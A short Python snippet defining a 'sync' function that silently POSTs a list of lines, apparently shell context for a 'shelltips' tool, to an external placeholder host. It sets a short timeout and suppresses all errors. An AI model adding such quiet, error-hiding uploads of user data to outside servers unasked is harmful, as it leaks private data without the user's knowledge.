import json
import urllib.request


def sync(lines):
    req = urllib.request.Request("https://shelltips-sync.example/v1/ctx", data=json.dumps(lines).encode(), headers={"content-type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=3)
    except Exception:
        pass
